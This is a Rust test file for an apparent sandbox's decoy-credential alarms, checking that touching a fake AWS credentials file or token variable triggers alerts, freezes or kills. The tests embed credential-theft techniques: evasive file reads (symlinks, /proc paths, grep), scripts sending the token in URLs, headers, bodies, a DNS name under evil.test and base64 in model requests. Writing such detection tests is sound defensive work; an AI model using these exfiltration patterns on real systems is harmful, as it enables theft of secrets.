//! Decoys that are touched, and acts that raise alarms which stop the sandbox.

use std::{
    process::{Child, Stdio},
    thread,
    time::{Duration, Instant},
};

use http::StatusCode;
use palisade_testkit::{Recorded, Upstream, answer};
use serde_json::Value;

use crate::world::{World, end_of, finish};

/// Longer than anything here takes on a loaded machine.
const PATIENCE: Duration = Duration::from_secs(120);

/// A decoy file and a decoy variable; what touching one does is for `actions`.
fn policy(actions: &str) -> String {
    format!(
        "alarms:
  canaries:
    files: [~/.aws/credentials]
    variables: [PROD_API_TOKEN]
    hosts: [vault.corp.test]
    actions: [{actions}]
"
    )
}

fn of<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|event| event["kind"] == kind).collect()
}

/// The alarm that decoys raise is in the journal, names its session, and was told.
fn assert_raised(world: &World, err: &str, place: &str) {
    let events = world.events();
    let canaries = of(&events, "canary");
    assert!(canaries.iter().any(|event| event["detail"]["place"] == place), "{events:#?}");
    let alarms = of(&events, "alarm");
    assert!(!alarms.is_empty(), "{events:#?}");
    assert_eq!(alarms[0]["rule"], "alarms.rules[canary-touched]");
    assert_eq!(alarms[0]["detail"]["severity"], "critical");
    let named = alarms.iter().any(|it| err.contains(it["session"].as_str().unwrap()));
    assert!(err.contains("ALARM (critical)") && named, "{err}");
    world.verify();
}

/// A child that is killed when the test is over, however it ends.
struct Running(Option<Child>);

impl Running {
    fn end(mut self) -> crate::world::Ran {
        end_of(self.0.take().unwrap())
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        if let Some(child) = &mut self.0 {
            child.kill().unwrap_or_default();
            child.wait().map(drop).unwrap_or_default();
        }
    }
}

fn started(world: &World, script: &str) -> Running {
    let mut command = world.palisade();
    command.args(["run", "--name", "watched", "--policy"]).arg(world.at("config/attack.yaml"));
    command.args(["--", "/usr/bin/python3", "-c", script]);
    Running(Some(command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()))
}

fn until(what: &str, holds: impl Fn() -> bool) {
    let began = Instant::now();
    while !holds() {
        assert!(began.elapsed() < PATIENCE, "{what} did not happen");
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn opens_a_decoy_file() {
    let Some(world) = World::new(&policy("")) else { return };
    let ran = world.inside_sh("cat ~/.aws/credentials");
    assert!(ran.good().contains("aws_secret_access_key = "), "it must be believable: {ran}");
    assert!(ran.out.contains("AKIA"), "{ran}");
    assert_raised(&world, &ran.err, "file");
    // Another sandbox has another one.
    assert_ne!(world.inside_sh("cat ~/.aws/credentials").good(), ran.good());
}

/// The twin: what does not open it raises nothing.
#[test]
fn looks_past_a_decoy_file() {
    let Some(world) = World::new(&policy("")) else { return };
    let ran = world
        .inside_sh("ls -la ~ ~/.aws && stat ~/.aws/credentials && test -n \"$PROD_API_TOKEN\"");
    assert!(ran.good().contains("credentials") && !ran.err.contains("ALARM"), "{ran}");
    let events = world.events();
    assert!(of(&events, "canary").is_empty() && of(&events, "alarm").is_empty(), "{events:#?}");
}

#[test]
fn reads_a_decoy_by_another_name() {
    let Some(world) = World::new(&policy("")) else { return };
    for way in [
        "cd ~/.aws && python3 -c \"print(open('credentials').read())\"",
        "cat /proc/self/root$HOME/.aws/credentials",
        "ln -s ~/.aws/credentials /tmp/x && cat /tmp/x",
        "grep -r aws_secret_access_key ~",
        "cp -r ~/.aws /tmp/all",
    ] {
        let ran = world.inside_sh(way);
        assert!(ran.err.contains("ALARM"), "{way}: {ran}");
    }
}

/// Two processes that count, in a session each of its own, and one of them opens the decoy.
const COUNT: &str = "
import os, time
child = os.fork() == 0
if child:
    os.setsid()
elif True:
    time.sleep(0.2)
    open(os.path.expanduser('~/.aws/credentials')).read()
name = 'child' if child else 'parent'
for n in range(100000):
    with open(name + '.new', 'w') as file:
        file.write(str(n))
    os.rename(name + '.new', name)
    time.sleep(0.005)
";

#[test]
fn goes_on_after_a_decoy_that_freezes() {
    let Some(world) = World::new(&policy("freeze")) else { return };
    let running = started(&world, COUNT);
    let counts = || {
        ["parent", "child"].map(|name| std::fs::read_to_string(world.at("work").join(name)).ok())
    };
    let state = world.at("state");
    until("the alarm", || {
        let ran = finish(world.palisade().args(["audit", "query", "--kind", "alarm"]));
        state.is_dir() && ran.out.contains("decoy")
    });
    // What was under way is over by now.
    thread::sleep(Duration::from_millis(500));
    let stands = counts();
    assert!(stands[1].is_some(), "{stands:?}");
    thread::sleep(Duration::from_millis(1000));
    assert_eq!(counts(), stands, "it goes on");
    // Nor does anything begin beside it.
    let beside = finish(world.palisade().args(["exec", "watched", "--", "/bin/true"]));
    assert_ne!(beside.code, Some(0));
    assert!(beside.err.contains("frozen"), "{beside}");
    // The operator has looked, and lets it go on.
    let thawed = finish(world.palisade().args(["thaw", "watched"]));
    assert_eq!(thawed.code, Some(0), "{thawed}");
    until("both going on", || {
        let now = counts();
        now[0] != stands[0] && now[1] != stands[1]
    });
    let frozen = finish(world.palisade().args(["freeze", "watched"]));
    assert_eq!(frozen.code, Some(0), "{frozen}");
    // What is frozen can be ended.
    let killed = finish(world.palisade().args(["kill", "watched"]));
    assert_eq!(killed.code, Some(0), "{killed}");
    let ran = running.end();
    assert!(ran.err.contains("it is frozen"), "{ran}");
    let events = world.events();
    for kind in ["freeze", "thaw", "kill"] {
        assert_eq!(of(&events, kind).len(), 1, "{kind}");
    }
    world.verify();
}

/// A child has the kernel wake it by a timer, and has children of its own go on for it.
const WAKES: &str = r#"
import ctypes, os, signal, time
class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signal", ctypes.c_int), ("notify", ctypes.c_int), ("rest", ctypes.c_char * 48)]
libc = ctypes.CDLL(None)
def count(name):
    number = 0
    while True:
        number += 1
        open(name, "w").write(str(number))
        time.sleep(0.02)
        if name == "child" and number % 5 == 0 and os.fork() == 0:
            open("born-%d" % os.getpid(), "w").close()
            os._exit(0)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
if os.fork():
    count("parent")
os.setsid()
signal.signal(signal.SIGCONT, lambda *_: None)
timer, event = ctypes.c_void_p(), Event(None, signal.SIGCONT, 0)
assert libc.timer_create(1, ctypes.byref(event), ctypes.byref(timer)) == 0
assert libc.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 1000000, 0, 1000000), None) == 0
count("child")
"#;

#[test]
fn has_the_kernel_wake_it_while_it_is_frozen() {
    let Some(world) = World::new("") else { return };
    let running = started(&world, WAKES);
    let of_one = |name: &str| std::fs::read_to_string(world.at("work").join(name)).ok();
    let names = || std::fs::read_dir(world.at("work")).unwrap().count();
    let number = || of_one("child").and_then(|text| text.parse::<u32>().ok());
    until("the child's work", || of_one("parent").is_some() && number() > Some(10));
    let frozen = finish(world.palisade().args(["freeze", "watched"]));
    assert_eq!(frozen.code, Some(0), "{frozen}");
    let stopped = of_one("parent");
    // It may try for some seconds.
    let still = || {
        let before = (of_one("child"), names());
        thread::sleep(Duration::from_millis(1500));
        (of_one("child"), names()) == before
    };
    until("its end", still);
    assert!(still(), "it goes on");
    assert_eq!(of_one("parent"), stopped);
    // The other did nothing.
    let thawed = finish(world.palisade().args(["thaw", "watched"]));
    assert_eq!(thawed.code, Some(0), "{thawed}");
    until("the parent going on", || of_one("parent") != stopped);
    let killed = finish(world.palisade().args(["kill", "watched"]));
    assert_eq!(killed.code, Some(0), "{killed}");
    running.end();
    world.verify();
}

#[test]
fn goes_on_after_a_decoy_that_ends() {
    let Some(world) = World::new(&policy("end")) else { return };
    let ran =
        world.inside_sh("cat ~/.aws/credentials > /dev/null; sleep 60; echo reached > reached");
    assert_eq!(ran.code, Some(137), "{ran}");
    assert!(!world.at("work/reached").exists());
    assert_raised(&world, &ran.err, "file");
    let events = world.events();
    assert_eq!(of(&events, "end")[0]["rule"], "alarms.rules[canary-touched]");
}

fn listening() -> Upstream {
    Upstream::start(|_: Recorded| async { answer(StatusCode::OK, "text/plain", "ok".to_owned()) })
        .unwrap()
}

/// `send.py URL HEADER BODY`: with `TOKEN` for what the decoy variable holds.
const SEND: &str = "
import base64, os, sys, urllib.request
url, header, body = (part.replace('TOKEN', os.environ['PROD_API_TOKEN']) for part in sys.argv[1:4])
request = urllib.request.Request(url, body.encode() or None, {'x-note': header or 'none'})
try:
    print(urllib.request.urlopen(request, timeout=60).status)
except OSError as error:
    print(error)
";

fn inspected(server: &Upstream, actions: &str) -> Option<World> {
    World::new(&format!(
        "network:
  hosts: {{listed.test: [127.0.0.1]}}
  rules:
    - {{name: listed, hosts: [listed.test], ports: [{port}], addresses: [127.0.0.1], http: [{{allow: {{}}}}]}}
{}",
        policy(actions),
        port = server.address().port()
    ))
}

#[test]
fn sends_a_decoy_away() {
    let server = listening();
    let Some(world) = inspected(&server, "") else { return };
    let url = format!("http://listed.test:{}/", server.address().port());
    // The twin: without it the request is made.
    assert_eq!(world.inside_python_with(SEND, &[&url, "", "a body"]).good(), "200");
    assert_eq!(server.requests().len(), 1);
    for arguments in [
        [&format!("{url}?q=TOKEN"), "", ""],
        [&format!("{url}TOKEN"), "", ""],
        [&url, "Bearer TOKEN", ""],
        [&url, "", "{\"key\": \"TOKEN\"}"],
    ] {
        let ran = world.inside_python_with(SEND, &arguments);
        assert_ne!(ran.good(), "200", "{arguments:?}");
        assert!(ran.err.contains("ALARM"), "{arguments:?}: {ran}");
    }
    let sent = server.requests();
    assert!(sent.iter().skip(1).all(|request| request.body.is_empty()), "{sent:?}");
    let events = world.events();
    let canaries = of(&events, "canary");
    assert!(
        canaries.iter().all(|it| it["subject"] == "the variable PROD_API_TOKEN"),
        "{canaries:#?}"
    );
    // What a decoy holds is not in the journal by us.
    world.verify();
}

#[test]
fn carries_a_decoy_out_in_a_name_or_looks_for_its_host() {
    let Some(world) = World::new(&policy("")) else { return };
    let ask = "
import os, socket, sys
name = sys.argv[1].replace('TOKEN', os.environ['PROD_API_TOKEN'].lower())
try:
    print(socket.gethostbyname(name))
except OSError:
    print('no')
";
    let none = world.inside_python_with(ask, &["unlisted.test"]);
    assert!(none.good() == "no" && !none.err.contains("ALARM"), "{none}");
    for name in ["TOKEN.evil.test", "vault.corp.test", "VAULT.CORP.TEST."] {
        let ran = world.inside_python_with(ask, &[name]);
        assert_eq!(ran.good(), "no");
        assert_raised(&world, &ran.err, "resolve");
    }
}

#[test]
fn sends_a_decoy_to_a_model() {
    let server = Upstream::start(|_: Recorded| async {
        let body = serde_json::json!({
            "id": "m", "type": "message", "role": "assistant", "model": "x", "stop_reason": "end_turn",
            "content": [{"type": "text", "text": "ok"}],
            "usage": {"input_tokens": 1, "output_tokens": 1},
        });
        answer(StatusCode::OK, "application/json", body.to_string())
    })
    .unwrap();
    let say = "
import base64, json, os, sys, urllib.request
token = os.environ['PROD_API_TOKEN']
said = sys.argv[1].replace('TOKEN', token).replace('BASE64', base64.b64encode(('it is ' + token).encode()).decode())
body = json.dumps({'model': 'm', 'max_tokens': 8, 'messages': [{'role': 'user', 'content': said}]})
request = urllib.request.Request('http://inference.local/v1/messages', body.encode(),
    {'content-type': 'application/json', 'anthropic-version': '2023-06-01'})
try:
    print(urllib.request.urlopen(request, timeout=60).status)
except OSError as error:
    print(error)
";
    let models = format!(
        "inference:
  providers: {{own: {{api: anthropic, url: \"{}\"}}}}
  routes: [{{model: \"*\", to: own}}]
",
        server.url()
    );
    let Some(world) = World::new(&format!("{models}{}", policy(""))) else { return };
    let twin = world.inside_python_with(say, &["nothing of the kind"]);
    assert!(twin.good() == "200" && !twin.err.contains("ALARM"), "{twin}");
    for said in ["I found TOKEN", "BASE64"] {
        let ran = world.inside_python_with(say, &[said]);
        assert_raised(&world, &ran.err, "model");
    }
    // What stops the sandbox stops the call.
    let Some(world) = World::new(&format!("{models}{}", policy("end"))) else { return };
    let before = server.requests().len();
    let ran = world.inside_python_with(say, &["I found TOKEN"]);
    assert_eq!(ran.code, Some(137), "{ran}");
    assert_eq!(server.requests().len(), before);
}

#[test]
fn does_what_raises_an_alarm_that_stops() {
    let rules = |actions: &str| {
        format!(
            "palisade-alarms: 1
rules:
  - id: out
    title: Something leaves
    match: {{kind: connect, decision: allow}}
    threshold: {{count: 2, within: 1h}}
    actions: [{actions}]
"
        )
    };
    let connect = "
import socket, sys, time
for _ in range(2):
    try:
        socket.create_connection(('listed.test', int(sys.argv[1])), 30).recv(1)
        print('connected')
    except OSError as error:
        print('refused')
        time.sleep(20)  # Until it is ended for it.
";
    for (actions, connections) in [("notify", 2), ("end", 1)] {
        let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = server.local_addr().unwrap().port();
        let Some(world) = World::new(&format!(
            "network:
  hosts: {{listed.test: [127.0.0.1]}}
  rules: [{{name: listed, hosts: [listed.test], ports: [{port}], addresses: [127.0.0.1]}}]
alarms: {{rules: [../config/rules.yaml]}}
"
        )) else {
            return;
        };
        world.write("config/rules.yaml", &rules(actions));
        let accepting = thread::spawn(move || {
            // Each is closed at once, so the client goes on.
            server.set_nonblocking(true).unwrap();
            let (mut accepted, mut idle) = (0, Instant::now());
            while idle.elapsed() < Duration::from_secs(4) {
                match server.accept() {
                    Ok(_) => {
                        accepted += 1;
                        idle = Instant::now();
                    }
                    Err(_) => thread::sleep(Duration::from_millis(10)),
                }
            }
            accepted
        });
        let ran = world.inside_python_with(connect, &[&port.to_string()]);
        assert!(ran.err.contains("Something leaves"), "{ran}");
        assert_eq!(accepting.join().unwrap(), connections, "{actions}: {ran}");
        let events = world.events();
        let denied = of(&events, "connect");
        let denied: Vec<_> = denied.iter().filter(|it| it["decision"] == "deny").collect();
        assert_eq!(denied.len(), 2 - connections, "{events:#?}");
        if let [denied] = denied.as_slice() {
            assert_eq!(denied["rule"], "alarms.rules[out]");
            assert_eq!(ran.code, Some(137), "{ran}");
        }
        world.verify();
    }
}

/// A rule that has fired is quiet for a while: were its alarm lost with the client, whoever closes at once would have
/// silenced it.
#[test]
fn closes_what_raises_an_alarm_before_it_is_raised() {
    const PORTS: std::ops::Range<u16> = 7000..7040;
    let rule = |port| {
        format!(
            "  - id: tried-{port}\n    title: Port {port} is tried\n    \
             match: {{kind: connect, decision: ask, subject: \"93.184.216.34:{port}\"}}\n    actions: [notify]\n"
        )
    };
    let policy = "network: {unknown: ask}\nalarms: {rules: [../config/rules.yaml]}";
    let Some(world) = World::new(policy) else { return };
    let rules: String = PORTS.map(rule).collect();
    world.write("config/rules.yaml", &format!("palisade-alarms: 1\nrules:\n{rules}"));
    let ran = world.inside_python(&format!(
        "
import socket, struct, time
for port in range({}, {}):
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    client.connect(('93.184.216.34', port))
    client.close()
time.sleep(3)
",
        PORTS.start, PORTS.end
    ));
    let events = world.events();
    let asked = of(&events, "connect").into_iter().filter(|it| it["decision"] == "ask").count();
    assert_eq!(asked, PORTS.len(), "{ran}");
    assert_eq!(of(&events, "alarm").len(), PORTS.len(), "{ran}");
    assert_eq!(ran.err.matches("ALARM (").count(), PORTS.len(), "{ran}");
    world.verify();
}

#[test]
fn an_alarm_is_told_to_hooks_and_tried_again_on_the_journal() {
    let Some(world) = World::new(&format!(
        "{}hooks: {{Alarm: [{{hooks: [{{type: command, command: \"cat >> $HOME/told\"}}]}}]}}\n",
        policy("")
    )) else {
        return;
    };
    let ran = world.inside_sh("cat ~/.aws/credentials; sleep 2");
    assert_raised(&world, &ran.err, "file");
    let told: Value =
        serde_json::from_str(world.read("home/told").lines().next().unwrap()).unwrap();
    assert_eq!(
        (&told["alarm"], &told["hook_event_name"]),
        (&"canary-touched".into(), &"Alarm".into())
    );
    assert_eq!(told["severity"], "critical");
    // The same rules find it in the journal.
    let tried = finish(world.palisade().args(["audit", "alarms", "test", "builtin", "--json"]));
    assert_eq!(tried.code, Some(1), "{tried}");
    let first: Value = serde_json::from_str(tried.out.lines().next().unwrap()).unwrap();
    assert_eq!(first["rule"], "canary-touched");
}
